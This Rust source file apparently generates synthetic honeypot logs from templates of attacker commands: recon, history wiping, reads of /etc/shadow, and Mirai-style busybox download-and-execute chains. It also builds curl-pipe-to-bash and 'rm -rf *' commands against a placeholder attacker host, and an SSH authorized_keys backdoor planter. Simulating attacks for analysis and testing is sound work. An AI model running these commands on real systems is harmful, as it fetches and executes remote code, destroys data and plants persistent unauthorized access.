//! Commands of attackers, as templates that occur in almost every log.

use super::{attacker::Attacker, session::Text};

/// Commands that bots run to explore the system.
pub const RECON: &[&str] = &[
    "/bin/./uname -s -v -n -r -m",
    "/bin/./uname -s -v -n -r -m",
    "uname -a",
    "uname -s -v -n -r -m",
    "uname -s -m",
    "echo -n login_success",
    "cat /proc/cpuinfo | grep name | wc -l",
    "nproc",
    "whoami",
    "/ip cloud print",
    "ifconfig",
    "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*",
    "ps -ef | grep '[Mm]iner'",
    "ps | grep '[Mm]iner'",
    "locate D877F783D5D3EF8Cs",
    "echo -e '\\x6F\\x6B'",
    "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; export HISTFILE=/dev/null ; export HISTSIZE=0; export HISTFILESIZE=0;",
    "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); cpus=$(nproc 2>/dev/null); echo \"UNAME:$uname\"; echo \"ARCH:$arch\"; echo \"UPTIME:$uptime\"; echo \"CPUS:$cpus\"",
];

/// Commands that key planters run after leaving the key.
pub const AFTER_KEY: &[&str] = &[
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname",
    "uname -a",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
];

/// Commands that people type, with typos.
pub const TYPED: &[&str] = &[
    "ls",
    "ls",
    "ls",
    "ls",
    "exit",
    "exit",
    "cd ..",
    "cd ..",
    "uname -a",
    "",
    "clear",
    "ps",
    "ls -l",
    "ls -la",
    "pwd",
    "whoami",
    "cat passwd",
    "cd etc",
    "cd home",
    "cd /tmp",
    "ps aux",
    "ps x",
    "cd .ssh",
    "id",
    "w",
    "history",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "touch me",
    "mkdir test",
    "free -m",
    "groups",
    "help",
    "sudo su",
    "apt update",
    "nano a.txt",
    "ifconfig",
    "ping 8.8.8.8",
    "cat authorized_keys ",
    "echo hello > a.txt",
    "date",
    "df -h",
    "netstat -tulpn",
];

/// Commands that the shell does not know.
pub const UNKNOWN: &[&str] = &[
    "ipconfig ",
    "sl",
    "tralala",
    "lsl",
    "dir",
    "cdd ..",
    "das",
    "cta passwd",
    "nano a.txt",
    "systemctl status sshd",
    "/gweerwe323f",
    "docker ps",
];

const APPLETS: &[&str] = &["MIRAI", "ECCHI", "KDVR", "LZRD", "SORA", "OWARI", "JOSHO"];

/// Returns the commands of a Mirai-like bot up to its binary, and the URL of the binary.
pub fn mirai(attacker: &mut Attacker) -> (Vec<Text>, String) {
    let applet = attacker.random.pick(APPLETS).to_owned();
    let arch = *attacker.random.pick(&["x86", "arm7", "mips", "mpsl", "arm", "sh4"]);
    let url = format!("http://{}/bins/{}.{arch}", attacker.host, applet.to_lowercase());
    let mut commands: Vec<Text> =
        ["enable", "system", "shell", "sh", "linuxshell"].into_iter().map(Text::from).collect();
    commands.push(format!("/bin/busybox {applet}").into());
    commands.push(format!("cat /proc/mounts; /bin/busybox {applet}").into());
    commands.push(format!("cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {applet}").into());
    commands.push(format!("tftp; wget; /bin/busybox {applet}").into());
    commands.push("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s".into());
    commands.push(
        format!("/bin/busybox wget {url} -O - > .i; /bin/busybox chmod 777 .i; ./.i telnet.{arch}; >.i")
            .into(),
    );
    commands.push("rm .s; exit".into());
    (commands, url)
}

/// Returns the command that downloads, the URL and the file name.
pub fn download(attacker: &mut Attacker) -> (String, String, String) {
    let host = attacker.host.clone();
    let name = *attacker.random.pick(&["sh", "bins.sh", "x86_64", "bot.sh", "c.sh", "clean.sh"]);
    let (url, other) = (format!("http://{host}/{name}"), format!("http://{host}/{name}.1"));
    let command = match attacker.random.below(3) {
        0 => format!(
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {url}; curl -O {url}; chmod 777 {name}; sh {name}; tftp {host} -c get bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"
        ),
        1 => format!("curl -s -L {url} | bash -s {}", attacker.key % 1000),
        _ => format!("wget -qO - {url} > /dev/null || curl -O {other}; chmod +x {name}; ./{name}"),
    };
    (command, url, other)
}

/// Returns the commands that leave a key; the second one writes it.
pub fn plant(attacker: &Attacker) -> Vec<Text> {
    let key = super::json::hex(attacker.of_pool(40), 340);
    vec![
        "cd ~; chattr -ia .ssh; lockr -ia .ssh".into(),
        format!("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{key}== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~").into(),
    ]
}
